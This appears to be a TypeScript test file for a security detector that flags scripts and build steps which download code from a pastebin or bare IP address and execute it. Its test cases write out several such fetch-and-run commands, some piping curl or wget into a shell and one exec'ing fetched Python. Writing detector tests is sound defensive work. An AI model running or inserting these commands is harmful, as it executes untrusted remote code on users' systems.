import { type DetectorCase, historyOf, testCases } from '../../../testing/detector-cases.ts';
import { fedExecution } from './index.ts';

const ID = 'network/fed-execution';
const sh = (text: string) => ({ 'x.sh': `#!/bin/sh\n${text}\n` });
const review = [`review ${ID} x.sh`];

const cases: readonly DetectorCase[] = [
  { name: 'a paste', files: sh('curl -s https://pastebin.com/raw/abc123 | bash'), expected: review },
  { name: 'a bare address', files: sh('wget -qO- http://203.0.113.7/a.sh | sh'), expected: review },
  {
    name: 'an address with a port',
    files: sh('bash -c "$(curl -fsSL 203.0.113.7:8080/a)"'),
    expected: review,
  },
  {
    name: 'saved and run',
    files: sh('curl -o /tmp/x http://203.0.113.7/x\nchmod 755 /tmp/x\n/tmp/x &'),
    expected: review,
  },
  { name: 'named by its address', files: sh('wget http://203.0.113.7/x.sh && sh x.sh'), expected: review },
  {
    name: 'in Python',
    files: { 'x.py': "exec(requests.get('https://pastebin.com/raw/x').text)\n" },
    expected: [`review ${ID} x.py`],
  },
  {
    name: 'a build step',
    config: historyOf('RUN wget http://203.0.113.7/x -O /x && chmod +x /x && /x'),
    expected: [`review ${ID} history[0]`],
  },
  {
    name: 'nothing: a host with a name',
    files: sh('curl -s https://get.tool.example/i.sh | sh'),
    expected: [],
  },
  { name: 'nothing: loopback', files: sh('curl -s http://127.0.0.1/x | sh'), expected: [] },
  {
    name: 'nothing: fetched and kept',
    files: sh('curl -o /data/db.gz http://203.0.113.7/db.gz'),
    expected: [],
  },
  { name: 'nothing: a comment', files: sh('# curl -s https://pastebin.com/raw/x | sh'), expected: [] },
];

testCases(fedExecution, cases);
